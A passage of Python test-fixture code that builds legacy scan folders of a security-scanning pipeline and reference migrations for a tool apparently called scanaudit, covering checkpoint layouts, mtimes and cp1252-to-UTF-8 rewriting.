    cpd = d / "analyze_checkpoints"
    cp = load(cpd / (safe_filename("app/util.py:normalize") + ".json"))
    gone = "app/removed.py:old_handler"
    cp["id"] = gone
    cp["result"]["unit_id"] = gone
    cp["route_key"] = gone
    dump(cpd / (safe_filename(gone) + ".json"), cp)
    D.cross(cpd, "stale-checkpoint", "directory", "warn", None, d)
    # stale-diff-manifest: diff_manifest.json left in a scan meta.json calls full
    sc, d = small_scan(P, "consistency-diff-manifest", 212)
    manifest = {"base_ref": "origin/main", "base_sha": "1" * 40, "head_sha": "2" * 40, "scope": "changed_files",
                "changed_files": ["app/views.py"]}
    (d / "diff_manifest.json").write_bytes(go_json(manifest))
    D.cross(d / "diff_manifest.json", "stale-diff-manifest", "diff-manifest", "warn", "openant scan", d)
    # restrictive-mode: git keeps no modes; tests/it/consistency.rs chmods a file of a copy to 0600.


# File mtimes the legacy fixtures depend on (`fork-enhance-dir` keeps the newer of two
# checkpoints): {path relative to legacy/: epoch seconds}, written to
# expected/legacy-mtimes.json. Git keeps no mtimes, so the tests set these on their copies.
LEGACY_MTIMES = {}


def set_mtime(root, p, when):
    """Gives `p` the mtime `when` ('YYYY-mm-ddTHH:MM:SS' UTC) and records it in LEGACY_MTIMES."""
    t = T(when)
    os.utime(p, (t, t))
    LEGACY_MTIMES[str(Path(p).relative_to(root))] = t


RATE_LIMIT = {"type": "rate_limit", "exception_class": "RateLimitError",
              "message": "Error code: 429 - {'type': 'error', 'error': {'type': 'rate_limit_error', 'message': 'Number of request tokens has exceeded your per-minute rate limit'}}",
              "status_code": 429, "request_id": "req_011CWa2k8fR4", "retry_after": 30.0}


def gen_legacy(root):
    """Old layouts `scanaudit migrate` upgrades (spec §2.6, §5.3): healthy scans otherwise, so
    their only findings are legacy-layout."""
    root = Path(root)
    P = root / "projects"
    D = Damage(root)
    LEGACY_MTIMES.clear()
    # the fork master line as it writes scans: dataset_enhanced_checkpoint_checkpoints/
    sha_f = "5c3855e0a1b2c3d4e5f60718293a4b5c6d7e8f90"
    sc, d = project_scan(P, "forkproj", dict(seed=41, model="sonnet"), fork_units(), sha_f, era="fork",
                         meta=False, start="2026-04-29T08:00:00")
    D.cross(d / "dataset_enhanced_checkpoint_checkpoints", "legacy-layout", "directory", "warn",
            MIGRATE_FIX, d)
    # a fork scan that a current OpenAnt enhanced too, so both enhance dirs exist. Two units are
    # in both: round_cents failed (rate limit) in the fork's first run and succeeded in the
    # current OpenAnt run a day later; delete_invoice failed in that run and succeeded in the
    # fork's last run. The fork's _summary.json is the newer one. The files the newer attempts
    # wrote are the ones dataset_enhanced.json holds, and what fork-enhance-dir keeps.
    sha_m = "7606ea3c1d2e3f405162738495a6b7c8d9e0f1a2"
    sc, d = project_scan(P, "forkmerge", dict(seed=43, model="sonnet"), fork_units(), sha_m, era="fork",
                         meta=False, start="2026-04-29T08:00:00")
    fdir = d / "dataset_enhanced_checkpoint_checkpoints"
    edir = d / "enhance_checkpoints"
    edir.mkdir()
    units = {x["id"]: x for x in load(d / "dataset.json")["units"]}

    def failed(uid):
        return {"id": uid, "agent_context": {"error": dict(RATE_LIMIT), "security_classification": "neutral",
                                             "confidence": 0.0}, "code": units[uid]["code"]}

    a, b = "svc/core/money.py:round_cents", "svc/api/handlers.py:delete_invoice"
    fa, fb = safe_filename(a) + ".json", safe_filename(b) + ".json"
    (edir / fa).write_bytes((fdir / fa).read_bytes())
    usage = load(edir / fa)["usage"]
    dump(fdir / fa, failed(a))
    dump(edir / fb, failed(b))
    dump(edir / "_summary.json", {"step": "enhance", "phase": "done", "timestamp": utc_z(T("2026-04-28T17:31:01"), 402211),
                                   "total_units": 2, "completed": 1, "errors": 1,
                                   "error_breakdown": {"rate_limit": 1},
                                   "usage": {"input_tokens": usage["input_tokens"], "output_tokens": usage["output_tokens"],
                                             "cost_usd": round(usage["cost_usd"], 6)}})
    set_mtime(root, fdir / fa, "2026-04-27T09:00:00")
    set_mtime(root, edir / fb, "2026-04-28T17:30:00")
    set_mtime(root, edir / fa, "2026-04-28T17:31:00")
    set_mtime(root, edir / "_summary.json", "2026-04-28T17:31:01")
    set_mtime(root, fdir / fb, "2026-04-29T08:01:40")
    set_mtime(root, fdir / "_summary.json", "2026-04-29T08:05:00")
    D.cross(fdir, "legacy-layout", "directory", "warn", MIGRATE_FIX, d)
    # upstream before 3b9ceeb: no language level, and the whole-dataset enhance checkpoint of
    # `enhance --checkpoint`, never deleted
    sha_o = "0d729f6a1b2c3d4e5f60718293a4b5c6d7e8f901"
    sc, d = project_scan(P, "oldtool", dict(seed=71, level="all"), legacy_units(), sha_o, era="legacy",
                         meta=False, start="2026-02-26T15:00:00", prelang=True)
    enh = load(d / "dataset_enhanced.json")
    enh["metadata"]["checkpoint"] = True
    dump(d / "enhance_checkpoint.json", enh)
    D.cross(d, "legacy-layout", "directory", "warn", MIGRATE_FIX, d)
    D.cross(d / "enhance_checkpoint.json", "legacy-layout", "legacy-checkpoint", "warn",
            MIGRATE_FIX, d)
    set_mtime(root, d / "enhance_checkpoint.json", "2026-02-26T16:42:07")
    # the fork before its a565352 merge: single-file checkpoints, deleted on success, so a
    # finished scan has no checkpoint dirs. Its enhance, analyze and verify were then re-run
    # with --fresh and interrupted, which leaves all three single files (spec §2.6).
    sha_s = "7e1a0c3b9d2f4e6a8b0c1d2e3f405162738495a6"
    sc, d = project_scan(P, "forkstop", dict(seed=53, dynamic=False, report=False, checkpoint_dirs=False),
                         forkstop_units(), sha_s, lang="javascript", era="fork", meta=False,
                         start="2026-03-20T09:00:00")
    fork_enhance_checkpoint(d, done=["src/routes/invoices.js:getInvoice", "src/routes/export.js:exportCsv",
                                     "src/lib/données/format.js:formaterMontant"],
                            raised={"src/lib/merge.js:deepMerge": "Agent error: Error code: 529 - Overloaded"})
    fork_analyze_checkpoint(d, order=["src/lib/données/format.js:formaterMontant", "src/routes/invoices.js:getInvoice",
                                      "src/routes/health.js:health", "src/routes/export.js:exportCsv"],
                            raised={"src/lib/i18n.js:traduire": "Error code: 529 - {'type': 'error', 'error': "
                                    "{'type': 'overloaded_error', 'message': 'Overloaded'}}"})
    fork_verify_checkpoint(d, done=["src/routes/export.js:exportCsv", "src/lib/données/format.js:formaterMontant",
                                    "src/routes/invoices.js:getInvoice"],
                           raised=["src/lib/merge.js:deepMerge"])
    for name, when in (("dataset_enhanced_checkpoint.json", "2026-03-21T10:05:33"),
                       ("analyze_checkpoint.json", "2026-03-21T11:47:02"),
                       ("verify_checkpoint.json", "2026-03-21T13:20:41")):
        D.cross(d / name, "legacy-layout", "legacy-checkpoint", "warn", MIGRATE_FIX, d)
        set_mtime(root, d / name, when)
    # a later scan of the same project, interrupted in verify by that fork; the fork's master
    # (per-unit checkpoint dirs) then re-ran verify to the end. It ignored the single file,
    # which stayed: every unit in it already has a newer per-unit file, which wins.
    sha_r = "a565352c0ffee4d1e2f3a4b5c6d7e8f901234567"
    sc, d = project_scan(P, "forkstop", dict(seed=59, dynamic=False, report=False, fork_enhance_dir=False),
                         forkstop_units(), sha_r, lang="javascript", era="fork", meta=False,
                         start="2026-04-20T09:00:00", write_project=False)
    fork_verify_checkpoint(d, done=["src/routes/invoices.js:getInvoice", "src/routes/export.js:exportCsv"],
                           raised=[], earlier=True)
    D.cross(d / "verify_checkpoint.json", "legacy-layout", "legacy-checkpoint", "warn", MIGRATE_FIX, d)
    set_mtime(root, d / "verify_checkpoint.json", "2026-04-18T17:02:55")
    # the same era in Go, in a project dir without project.json (copied from another machine):
    # only the dataset's parser (`go_parser`) tells the language
    sha_g = "1e4d7c0b9a8f7e6d5c4b3a29180f7e6d5c4b3a29"
    sc, d = project_scan(P, "gotool", dict(seed=73, level="all", verify=False, dynamic=False),
                         small_units("go", "cmd/gotool", 6), sha_g, lang="go", era="legacy", meta=False,
                         start="2026-02-26T11:00:00", prelang=True, write_project=False)
    D.cross(d, "legacy-layout", "directory", "warn", MIGRATE_FIX, d)
    # a Windows scan on the fix branch between d710b90 and 3cdca87: per-unit checkpoint dirs,
    # text-mode CRLF everywhere, and the locale code page (cp1252) in the ensure_ascii=False
    # outputs and the Markdown. Go (meta.json, project.json) writes UTF-8 on every platform.
    sha_w = "7e1c0ffee2d3b4a5968778695a4b3c2d1e0f9a8b"
    sc, d = project_scan(P, "winproj", dict(seed=81, crlf=True, encoding="cp1252", md_encoding="cp1252"),
                         win_units(), sha_w, start="2026-05-06T10:00:00")
    for rel, fk in (("dynamic_test_results.json", "dynamic-test-results"), ("pipeline_output.json", "pipeline-output"),
                    ("results_verified.json", "results-verified")):
        data = (d / rel).read_bytes()
        try:
            data.decode("utf-8")
            raise AssertionError("winproj %s is UTF-8" % rel)
        except UnicodeDecodeError as e:
            assert any(0x80 <= b <= 0x9F for b in data), rel
            # invalid-utf8 (an error: current OpenAnt cannot read it) and legacy-layout, both
            # pointing to migrate
            D.findings.append({"path": D.rel(d / rel), "kind": "invalid-utf8", "file_kind": fk, "offset": e.start,
                               "level": "error", "fix": MIGRATE_FIX, "scan_dir": D.rel(d)})
            D.cross(d / rel, "legacy-layout", fk, "warn", MIGRATE_FIX, d)
    # (A file that is not UTF-8 and not cp1252 either, which migrate must leave alone and list as
    # not upgradable, is made at test time by tests/it/migrate/cp1252.rs: in the tree it would make
    # every migrate of it exit 4, where a second migrate must exit 0.)
    mds = sorted(p for p in sc.files if p.endswith(".md"))
    assert len(mds) == 4, mds
    for rel in mds:
        data = (d / rel).read_bytes()
        try:
            data.decode("utf-8")
            raise AssertionError("winproj %s is UTF-8" % rel)
        except UnicodeDecodeError:
            pass
        data.decode("cp1252")
        D.cross(d / rel, "legacy-layout", "other", "warn", MIGRATE_FIX, d)
    # the fork before its merge again, killed after each step had saved its last unit and
    # written its output, before it deleted its single file: every unit is in the single files,
    # and the outputs are what the fork wrote from them (tests delete or tear an output and
    # expect `scanaudit repair` to write it back from the single file)
    sha_k = "3d5e7f9a1c2b4d6e8f0a1b2c3d4e5f6071829304"
    units = [u for u in forkstop_units() if u.error is None]
    sc, d = project_scan(P, "forkdone", dict(seed=67, dynamic=False, report=False, checkpoint_dirs=False),
                         units, sha_k, lang="javascript", era="fork", meta=False, start="2026-03-24T09:00:00")
    fork_finished_enhance(d)
    fork_finished_analyze(d, order=["src/routes/health.js:health", "src/lib/données/format.js:formaterMontant",
                                    "src/routes/invoices.js:getInvoice", "src/lib/i18n.js:traduire",
                                    "src/auth/session.js:checkSession", "src/routes/export.js:exportCsv",
                                    "src/lib/merge.js:deepMerge"])
    fork_verify_checkpoint(d, done=["src/lib/merge.js:deepMerge", "src/routes/invoices.js:getInvoice",
                                    "src/routes/export.js:exportCsv", "src/lib/données/format.js:formaterMontant"],
                           raised=[])
    for name, when in (("dataset_enhanced_checkpoint.json", "2026-03-24T09:06:39"),
                       ("analyze_checkpoint.json", "2026-03-24T09:24:59"),
                       ("verify_checkpoint.json", "2026-03-24T09:43:20")):
        D.cross(d / name, "legacy-layout", "legacy-checkpoint", "warn", MIGRATE_FIX, d)
        set_mtime(root, d / name, when)
    D.findings.sort(key=lambda f: (f["path"], f["kind"]))
    return D


MIGRATE_FIX = "scanaudit migrate {scan_dir}"


def fork_finished_enhance(d):
    """dataset_enhanced_checkpoint.json as the fork's enhance saved it after its last unit: the
    dataset with every unit as dataset_enhanced.json has it, and metadata.checkpoint,
    agentic_stats and the tracker totals that the output then got."""
    ds = load(d / "dataset.json")
    enh = load(d / "dataset_enhanced.json")
    doc = dict(enh)
    md = dict(ds["metadata"])
    md["checkpoint"] = True
    md["agentic_stats"] = enh["metadata"]["agentic_stats"]
    md["token_usage"] = enh["metadata"]["token_usage"]
    doc["metadata"] = md
    dump(d / "dataset_enhanced_checkpoint.json", doc)


def fork_finished_analyze(d, order):
    """analyze_checkpoint.json as the fork's parallel analyze (6b173c1, token_usage since 73a01a0)
    saved it after its last unit, `order` being the completion order: results and code_by_route
    in that order. results.json (sorted by unit_id) kept that code_by_route, and verify copied it
    into results_verified.json, so both are rewritten with the run's key order."""
    res = load(d / "results.json")
    by_id = {r["unit_id"]: r for r in res["results"]}
    results = [by_id[u] for u in order]
    code_by_route = {}
    for r in results:
        code_by_route[r["route_key"]] = res["code_by_route"][r["route_key"]]
    assert sorted(code_by_route) == sorted(res["code_by_route"])
    res["code_by_route"] = code_by_route
    dump(d / "results.json", res)
    rv = load(d / "results_verified.json")
    rv["code_by_route"] = code_by_route
    dump(d / "results_verified.json", rv)
    tin = sum(r.get("prompt_length", 0) // 3 for r in results)
    tout = 400 * len(results)
    dump(d / "analyze_checkpoint.json", {
        "results": results, "code_by_route": code_by_route, "counts": count_verdicts(results, fork=True),
        "dataset": "dataset_enhanced.json", "model": res["model"],
        "token_usage": {"total_calls": len(results), "total_input_tokens": tin, "total_output_tokens": tout,
                        "total_tokens": tin + tout, "total_cost_usd": round(tin * 15e-6 + tout * 75e-6, 6)}})


def fork_enhance_checkpoint(d, done, raised):
    """The fork's dataset_enhanced_checkpoint.json (7606ea3) of an `enhance --fresh` run stopped
    after the units in `done` (and `raised`, which failed): the parser dataset with those units'
    agent_context (the fork's agent_metadata has no per-call tokens, and its errors are strings),
    `metadata.checkpoint: true`, agentic_stats and the tracker totals."""
    ds = load(d / "dataset.json")
    enhanced = {x["id"]: x for x in load(d / "dataset_enhanced.json")["units"]}
    st = {"units_processed": 0, "units_with_context": 0, "total_iterations": 0, "functions_added": 0,
          "security_controls_found": 0, "vulnerable_found": 0, "neutral_found": 0, "errors": 0}
    tokens = 0
    for x in ds["units"]:
        if x["id"] in done:
            ac = json.loads(json.dumps(enhanced[x["id"]]["agent_context"]))
            meta = ac["agent_metadata"]
            ac["agent_metadata"] = {"iterations": meta["iterations"], "total_tokens": meta["total_tokens"]}
            x["code"] = enhanced[x["id"]]["code"]
            x["agent_context"] = ac
            st["units_processed"] += 1
            st["total_iterations"] += meta["iterations"]
            c = ac.get("security_classification")
            key = {"security_control": "security_controls_found", "vulnerable_internal": "vulnerable_found"}.get(c, "neutral_found")
            st[key] += 1
            tokens += meta["total_tokens"]
        elif x["id"] in raised:
            x["agent_context"] = {"error": raised[x["id"]], "security_classification": "neutral", "confidence": 0.0}
            st["errors"] += 1
    ds["metadata"]["checkpoint"] = True
    ds["metadata"]["agentic_stats"] = st
    tin = tokens * 9 // 10
    ds["metadata"]["token_usage"] = {"total_calls": st["total_iterations"], "total_input_tokens": tin,
                                     "total_output_tokens": tokens - tin, "total_tokens": tokens,
                                     "total_cost_usd": round(tin * 3e-6 + (tokens - tin) * 15e-6, 6)}
    dump(d / "dataset_enhanced_checkpoint.json", ds)


def fork_analyze_checkpoint(d, order, raised):
    """The fork's analyze_checkpoint.json (d3b1b84, token_usage since 73a01a0) of an `analyze
    --fresh` run stopped after the units in `order` (completion order, parallel since 6b173c1)
    and `raised` (failed: `_on_error`'s result, no code_by_route entry)."""
    res = load(d / "results.json")
    by_id = {r["unit_id"]: r for r in res["results"]}
    counts = {"vulnerable": 0, "bypassable": 0, "inconclusive": 0, "insufficient_context": 0, "protected": 0,
              "safe": 0, "errors": 0}
    results = []
    code_by_route = {}
    for uid in order:
        r = by_id[uid]
        results.append(r)
        code_by_route[r["route_key"]] = res["code_by_route"][r["route_key"]]
        counts[r["finding"]] += 1
    for uid, error in raised.items():
        results.append({"unit_id": uid, "verdict": "ERROR", "finding": "error", "error": error})
        counts["errors"] += 1
    tin = sum(r.get("prompt_length", 0) // 3 for r in results)
    tout = 400 * len(order)
    dump(d / "analyze_checkpoint.json", {
        "results": results, "code_by_route": code_by_route, "counts": counts, "dataset": "dataset_enhanced.json",
        "model": res["model"],
        "token_usage": {"total_calls": len(results), "total_input_tokens": tin, "total_output_tokens": tout,
                        "total_tokens": tin + tout, "total_cost_usd": round(tin * 15e-6 + tout * 75e-6, 6)}})


def fork_verify_checkpoint(d, done, raised, earlier=False):
    """The fork's verify_checkpoint.json (d3b1b84) of a `verify --fresh` run stopped after the
    findings in `done` and `raised` (a failed attempt, which d3b1b84 still marked done, with no
    verification saved). Keyed by route_key, in results order; `finding`/`verification_note`
    are `r.get(...)`, so an agreement has a null note. `earlier`: an older run than the
    results_verified.json on disk, which said other things."""
    res = load(d / "results.json")
    rv = {r["unit_id"]: r for r in load(d / "results_verified.json")["results"]}
    verified = []
    for r in verify_candidates(res["results"]):
        if r["unit_id"] not in done:
            continue
        v = json.loads(json.dumps(rv[r["unit_id"]]["verification"]))
        if earlier:
            v["iterations"] += 4
            v["explanation"] = "Earlier run: " + v["explanation"]
        verified.append({"route_key": r["route_key"], "verification": v, "finding": rv[r["unit_id"]].get("finding"),
                         "verification_note": rv[r["unit_id"]].get("verification_note") or None})
    route = {r["unit_id"]: r.get("route_key", r["unit_id"]) for r in res["results"]}
    dump(d / "verify_checkpoint.json", {"completed_keys": [route[u] for u in done + list(raised)],
                                        "verified": verified})


# ---------------------------------------------------------------------------------------------
# Reference migrations: what `scanaudit migrate` must leave (testdata/migrated/)
# ---------------------------------------------------------------------------------------------

SF_NAMES = ("analyze_checkpoint.json", "verify_checkpoint.json", "dataset_enhanced_checkpoint.json",
            "enhance_checkpoint.json")
SF_DIR = {"enhance": "enhance_checkpoints", "analyze": "analyze_checkpoints", "verify": "verify_checkpoints"}
SF_STEP = {"enhance": "enhance", "analyze": "Analyze", "verify": "Verify"}
# top-level names OpenAnt gives its own files: never taken for a whole-dataset checkpoint (old
# upstream left metadata.checkpoint=true in the finished dataset_enhanced.json too)
SF_OWN = ("dataset.json", "analyzer_output.json", "call_graph.json", "dataset_enhanced.json", "results.json",
          "results_verified.json", "pipeline_output.json", "dynamic_test_results.json", "application_context.json",
          "llm_reachability.json", "diff_manifest.json", "diff_filter.report.json", "scan_result.json",
          "functions.json", "scan_results.json", "pipeline_results.json", "meta.json", "project.json")


def sf_kind(name, doc):
    """Which single-file checkpoint (spec §2.6) a top-level document is, if any."""
    if not isinstance(doc, dict):
        return None
    if name == "analyze_checkpoint.json" and isinstance(doc.get("results"), list):
        return "analyze"
    if name == "verify_checkpoint.json" and (isinstance(doc.get("verified"), list)
                                             or isinstance(doc.get("completed_keys"), list)):
        return "verify"
    if name == "dataset_enhanced_checkpoint.json" and isinstance(doc.get("units"), list):
        return "enhance"      # the fork's own name: its master's retry copy has no checkpoint flag
    md = doc.get("metadata")
    if isinstance(doc.get("units"), list) and isinstance(md, dict) and md.get("checkpoint") is True:
        return "enhance"
    return None


def sf_timestamp(mtime_ns):
    """write_summary's `datetime.now(timezone.utc).isoformat().replace("+00:00", "Z")`, at the
    legacy file's mtime instead of now."""
    import datetime as dt
    t = dt.datetime(1970, 1, 1, tzinfo=dt.timezone.utc) + dt.timedelta(microseconds=mtime_ns // 1000)
    return t.isoformat().replace("+00:00", "Z")


def sf_diff_count(units):
    if any(isinstance(u, dict) and "diff_selected" in u for u in units):
        return sum(1 for u in units if isinstance(u, dict) and u.get("diff_selected"))
    return len(units)


def sf_candidate(r):
    if not isinstance(r, dict):
        return False
    if "finding" in r:
        f = r["finding"]
    else:
        v = r.get("verdict")
        f = v.lower() if isinstance(v, str) else None
    return f in ("vulnerable", "bypassable")


def sf_units(kind, doc, results=None, dataset=None):
    """The per-unit checkpoints current OpenAnt would have written for the legacy document, as
    [(id, doc)] in write order, and total_units. Errored units are left out, as
    `_migrate_legacy_checkpoint` leaves them out."""
    out = []
    if kind == "enhance":
        # _migrate_legacy_checkpoint, then _save_unit_checkpoint
        for u in doc["units"]:
            if not isinstance(u, dict):
                continue
            ac = u.get("agent_context")
            if not ac or not isinstance(ac, dict) or ac.get("error"):
                continue
            uid = u.get("id")
            if not isinstance(uid, str) or not uid:
                continue
            cp = {"id": uid, "agent_context": ac}
            if "code" in u:
                cp["code"] = u["code"]
            meta = ac.get("agent_metadata", {})
            if isinstance(meta, dict) and (meta.get("input_tokens") or meta.get("output_tokens")):
                cp["usage"] = {"input_tokens": meta.get("input_tokens", 0),
                               "output_tokens": meta.get("output_tokens", 0),
                               "cost_usd": meta.get("cost_usd", 0.0)}
            out.append((uid, cp))
        return out, sf_diff_count(doc["units"])
    if kind == "analyze":
        # _process_and_save: {result, route_key, code_for_route, usage?, id}; the single file has
        # no per-unit usage, so none is written
        cbr = doc.get("code_by_route")
        cbr = cbr if isinstance(cbr, dict) else {}
        for r in doc["results"]:
            if not isinstance(r, dict):
                continue
            uid = r.get("unit_id")
            if not isinstance(uid, str) or not uid:
                continue
            if r.get("verdict") == "ERROR" or r.get("finding") == "error":
                continue
            rk = r.get("route_key", uid)
            code = cbr[rk] if isinstance(rk, str) and rk in cbr else ""
            out.append((uid, {"result": r, "route_key": rk, "code_for_route": code, "id": uid}))
        units = dataset.get("units") if isinstance(dataset, dict) else None
        return out, sf_diff_count(units) if isinstance(units, list) else len(doc["results"])
    # verify: _verify_batch_*, keyed by the result's unit_id, else its route_key
    res = results.get("results") if isinstance(results, dict) else None
    cands = [r for r in res if sf_candidate(r)] if isinstance(res, list) else None
    by_route = {}
    for r in cands or []:
        rk = r.get("route_key", "unknown")
        if not isinstance(rk, str):
            continue
        uid = r.get("unit_id")
        if uid:
            if not isinstance(uid, str):
                continue
            key = uid
        else:
            key = rk
        by_route.setdefault(rk, []).append(key)
    seen = set()
    verified = doc.get("verified")
    for e in verified if isinstance(verified, list) else []:
        if not isinstance(e, dict):
            continue
        rk = e.get("route_key")
        if not isinstance(rk, str) or not rk:
            continue
        seen.add(rk)
        key = by_route[rk].pop(0) if by_route.get(rk) else rk
        v = e.get("verification")
        if not v or not isinstance(v, dict) or v.get("correct_finding") == "error":
            continue
        finding = e.get("finding")
        note = e.get("verification_note")
        out.append((key, {"verification": v, "finding": "" if finding is None else finding,
                          "verification_note": "" if note is None else note, "id": key}))
    if cands is not None:
        return out, len(cands)
    keys = doc.get("completed_keys")
    abandoned = {k for k in (keys if isinstance(keys, list) else []) if isinstance(k, str) and k not in seen}
    return out, len(seen) + len(abandoned)


def sf_restorable(kind, d):
    if kind == "enhance":
        ac = d.get("agent_context")
        return bool(ac) and not (isinstance(ac, dict) and ac.get("error"))
    if kind == "analyze":
        r = d.get("result")
        r = r if isinstance(r, dict) else {}
        return not (r.get("verdict") == "ERROR" or r.get("finding") == "error")
    if "verification" not in d:
        return False
    v = d["verification"]
    return bool(v) and not (isinstance(v, dict) and v.get("correct_finding") == "error")


def sf_error_type(d):
    """StepCheckpoint.status's error type of a unit file, None when it counts as completed."""
    ac = d.get("agent_context")
    if isinstance(ac, dict) and ac.get("error"):
        err = ac["error"]
        return err.get("type", "unknown") if isinstance(err, dict) else "unknown"
    if "result" in d:
        r = d["result"] if isinstance(d["result"], dict) else {}
        return "analysis_error" if r.get("verdict") == "ERROR" or r.get("finding") == "error" else None
    if "verification" in d:
        v = d["verification"]
        return "verification_error" if not v or (isinstance(v, dict) and v.get("correct_finding") == "error") else None
    return "test_error" if d.get("status") == "ERROR" else None


def sf_summary(kind, total, ts, docs):
    """_summary.json as write_summary writes it right after a migration, counted and summed
    over the unit files the dir holds. The phase is done when the files cover every unit of
    the step's input (a finished run), else in_progress."""
    completed = errors = 0
    breakdown = {}
    tin, tout, cost = 0, 0, 0.0
    for d in docs:
        if sf_restorable(kind, d):
            completed += 1
        else:
            et = sf_error_type(d)
            if et is not None:
                errors += 1
                key = et if kind == "enhance" else "api"
                breakdown[key] = breakdown.get(key, 0) + 1
        if "usage" not in d or not isinstance(d["usage"], dict):
            continue
        u = d["usage"]
        for name, default in (("input_tokens", 0), ("output_tokens", 0), ("cost_usd", 0.0)):
            try:
                if name == "input_tokens":
                    tin = tin + u.get(name, default)
                elif name == "output_tokens":
                    tout = tout + u.get(name, default)
                else:
                    cost = cost + u.get(name, default)
            except TypeError:
                pass
    phase = "done" if total > 0 and completed + errors >= total else "in_progress"
    return {"step": SF_STEP[kind], "phase": phase, "timestamp": ts, "total_units": total,
            "completed": completed, "errors": errors, "error_breakdown": breakdown,
            "usage": {"input_tokens": tin, "output_tokens": tout, "cost_usd": round(cost, 6)}}


def sf_load(p):
    if p.is_symlink() or not p.is_file():
        return None
    try:
        return json.loads(p.read_bytes().decode("utf-8"))
    except (ValueError, UnicodeDecodeError):
        return None


def migrate_single_file_checkpoints(scan_dir):
    """Reference of migration `single-file-checkpoints` on one scan dir: every single-file
    checkpoint at its top becomes {step}_checkpoints/<safe_filename(id)>.json files plus
    _summary.json, files already there winning, and the single file goes (to the backup)."""
    scan_dir = Path(scan_dir)
    found = []
    for name in sorted(os.listdir(scan_dir)):
        p = scan_dir / name
        if not name.endswith(".json") or p.is_symlink() or not p.is_file():
            continue
        if name not in SF_NAMES and (name in SF_OWN or name.endswith(".report.json") or name.startswith(".")):
            continue
        doc = sf_load(p)
        kind = sf_kind(name, doc) if doc is not None else None
        if kind is None:
            continue          # unconvertible: left in place (an Unfixable in the plan)
        found.append((kind, p.stat().st_mtime_ns, name, doc))
    # several files of one step: the newest one's units win
    found.sort(key=lambda f: (SF_DIR[f[0]], -f[1], f[2]))
    claimed = {}
    for kind, mtime_ns, name, doc in found:
        claim = claimed.setdefault(kind, set())
        d = scan_dir / SF_DIR[kind]
        existing = {}
        dirs = [d] + ([scan_dir / "dataset_enhanced_checkpoint_checkpoints"] if kind == "enhance" else [])
        for dd in dirs:
            if dd.is_dir():
                for n in sorted(os.listdir(dd)):
                    existing.setdefault(n, dd / n)
        results = sf_load(scan_dir / "results.json") if kind == "verify" else None
        ds_name = doc.get("dataset") if kind == "analyze" else None
        dataset = sf_load(scan_dir / ds_name) if ds_name in ("dataset.json", "dataset_enhanced.json") else None
        units, total = sf_units(kind, doc, results, dataset)
        files = {}
        for uid, cp in units:
            fn = safe_filename(uid) + ".json"
            if "\0" in uid or len(fn.encode("utf-8")) > 255 or fn == "_summary.json":
                continue
            files.pop(fn, None)          # a later write replaces the file: it moves to the end
            files[fn] = (uid, cp, json.dumps(cp, indent=2).encode())
        d.mkdir(exist_ok=True)
        created = []
        kept_or_already = False
        for fn, (uid, cp, data) in files.items():
            if fn in claim:
                continue
            if fn in existing:
                kept_or_already = True
                continue
            (d / fn).write_bytes(data)
            created.append(cp)
        if "_summary.json" not in existing and "_summary.json" not in claim:
            ts = sf_timestamp(mtime_ns)
            if kept_or_already:
                docs = [x for n, pth in sorted(existing.items()) if n.endswith(".json") and n != "_summary.json"
                        for x in [sf_load(pth)] if x is not None]
                summary = sf_summary(kind, total, ts, docs + created)
            else:
                summary = sf_summary(kind, total, ts, [cp for _, cp, _ in files.values()])
            (d / "_summary.json").write_bytes(json.dumps(summary, indent=2).encode())
        claim.update(files)
        claim.add("_summary.json")
        (scan_dir / name).unlink()


RAW_JSON_NAMES = ("results_verified.json", "pipeline_output.json", "dynamic_test_results.json")


def ref_cp1252_to_utf8(root):
    """Reference for migration cp1252-to-utf8. In scan dirs (below `scans/`), the files OpenAnt
    wrote as raw text (the ensure_ascii=False outputs and Markdown) that are not UTF-8 but
    decode with Python's cp1252 codec are written back as the same text in UTF-8, CRLF and all;
    a JSON file only if the decoded text loads. Anything else stays as it is."""
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = sorted(x for x in dirnames if x != ".scanaudit")
        if "scans" not in Path(dirpath).relative_to(root).parts:
            continue
        for fn in sorted(filenames):
            p = Path(dirpath) / fn
            if not (fn in RAW_JSON_NAMES or fn.endswith(".md")) or p.is_symlink():
                continue
            data = p.read_bytes()
            try:
                data.decode("utf-8")
                continue
            except UnicodeDecodeError:
                pass
            try:
                s = data.decode("cp1252")
            except UnicodeDecodeError:
                continue
            if fn.endswith(".json"):
                try:
                    json.loads(s)
                except ValueError:
                    continue
            p.write_bytes(s.encode("utf-8"))



# ---------------------------------------------------------------------------------------------
# The migrated tree: reference implementations of `scanaudit migrate`
# ---------------------------------------------------------------------------------------------

LANGUAGES = ["python", "javascript", "go", "c", "ruby", "php", "zig"]


def scan_dirs_of(root):
    """The scan dirs of a tree of projects: scans/<sha>/<language>/, and scans/<sha>/ itself
    when it holds scan files (before 3b9ceeb)."""
    out = []
    for scans in sorted(p for p in Path(root).rglob("scans") if p.is_dir()):
        for run in sorted(p for p in scans.iterdir() if p.is_dir()):
            children = sorted(run.iterdir())
            if any(not run_dir_entry(c) for c in children):
                out.append(run)
            out.extend(c for c in children if c.is_dir() and c.name in LANGUAGES)
    return out


def run_dir_entry(p):
    """What belongs to the run dir scans/<sha>/ rather than to a scan: meta.json (and its
    temps), scanaudit's own state, and the language dirs."""
    import re
    return (p.name in ("meta.json", ".scanaudit") or (p.is_dir() and p.name in LANGUAGES)
            or re.fullmatch(r"meta\.json\.tmp\.[0-9]{1,10}|\.meta\.json\.scanaudit-[A-Za-z0-9]{6}\.tmp", p.name))


class MtimeRule:
    """Compares file mtimes, insisting that both were set from LEGACY_MTIMES: a decision that
    depends on an mtime the tests do not set would make the expected tree a matter of luck."""

    def __init__(self, root, mtimes):
        self.known = set()
        for rel, t in mtimes.items():
            p = Path(root) / rel
            os.utime(p, (t, t))
            self.known.add(os.stat(p).st_ino)

    def newer(self, p, q):
        sp, sq = os.stat(p), os.stat(q)
        assert sp.st_ino in self.known and sq.st_ino in self.known, "mtime of %s or %s not in LEGACY_MTIMES" % (p, q)
        return sp.st_mtime_ns > sq.st_mtime_ns


def ref_fork_enhance_dir(scan, mtimes):
    """fork-enhance-dir: dataset_enhanced_checkpoint_checkpoints/ becomes enhance_checkpoints/,
    renamed whole, or merged file by file when both exist. Files meet by name and by the id
    inside; of two, a usable one beats one OpenAnt cannot use, identical bytes keep the one in
    place, otherwise the newer mtime wins (a tie keeps the one in place). The loser goes to the
    backup, which the migrated tree does not show. A name holding different units, or a
    non-checkpoint entry under a taken name, is left for the user."""
    fdir, edir = scan / "dataset_enhanced_checkpoint_checkpoints", scan / "enhance_checkpoints"
